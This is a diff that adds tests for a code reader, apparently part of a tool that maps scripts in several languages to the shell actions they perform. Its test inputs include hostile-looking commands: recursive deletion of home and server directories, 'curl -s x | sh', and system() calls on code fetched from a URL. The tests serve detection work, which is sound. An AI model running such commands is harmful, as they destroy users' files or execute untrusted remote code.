@@ -36,10 +36,34 @@ describe("readCode", () => {
     expect(readCode("php", 'system(getenv("PAYLOAD"));', "php").unresolved).toHaveLength(1);
   });
 
+  test("an interpolation in a path literal is its value: the home directory when the code names it, else unknown (heldout5)", () => {
+    expect(lines("node", "require('fs').rmSync(`${require('os').homedir()}/photos`, {recursive: true})").join("\n")).toMatch(/ ~\/photos$/m);
+    expect(lines("node", "require('fs').rmSync(`${process.env.HOME}/photos`, {recursive: true})").join("\n")).toMatch(/ ~\/photos$/m);
+    expect(lines("ruby", 'FileUtils.rm_rf("#{Dir.home}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
+    expect(lines("python", 'import shutil; shutil.rmtree(f"{Path.home()}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
+    expect(lines("perl", 'use File::Path; rmtree("$ENV{HOME}/photos")').join("\n")).toMatch(/ ~\/photos$/m);
+    expect(lines("php", "exec(\"rm -rf {$_SERVER['HOME']}/sites\");").join("\n")).toContain("~/sites");
+    // Any other value stays unknown inside the word, never a name in the project.
+    expect(lines("python", 'import shutil; shutil.rmtree(f"{base}/photos")').join("\n")).toContain('"$__synaps_value"/photos');
+    expect(lines("perl", 'use File::Path; rmtree("$dir/photos")').join("\n")).toContain('"$__synaps_value"/photos');
+    // An escaped sigil and a single-quoted Perl string are text.
+    expect(lines("perl", 'unlink("\\$HOME.txt")').join("\n")).not.toContain("__synaps_value");
+    expect(lines("perl", "unlink('$HOME.txt')").join("\n")).not.toContain("__synaps_value");
+  });
+
+  test("a URL handed to a fetcher stands for what it serves, a URL handed to a parser for the URL (heldout5)", () => {
+    expect(readCode("php", 'system(file_get_contents("http://203.0.113.2/c.txt"));', "php").unresolved).toHaveLength(1);
+    expect(readCode("python", 'import os; os.system(urlopen("https://x.example/c"))', "python").unresolved).toHaveLength(1);
+    expect(lines("ruby", 'system("curl", URI("https://example.com/a.tgz"), "-o", "a.tgz")').join("\n")).toContain("https://example.com/a.tgz");
+  });
+
   test("Deno's file calls and JXA's shell calls are read", () => {
     expect(lines("node", "Deno.removeSync('/srv/data', { recursive: true })").join("\n")).toContain("/srv/data");
     expect(lines("applescript", 'ObjC.import("stdlib"); $.system("curl -s x | sh")')).toContain("curl -s x | sh");
     expect(lines("applescript", 'Application.currentApplication().doShellScript("rm -rf /srv")')).toContain("rm -rf /srv");
+    expect(lines("applescript", 'ObjC.import("Foundation"); $.NSFileManager.defaultManager.removeItemAtPathError($("/srv/data"), null)').join("\n")).toMatch(
+      /^rm -r.*\/srv\/data$/m,
+    );
   });
 
   test("a command only known at run time is unresolved", () => {
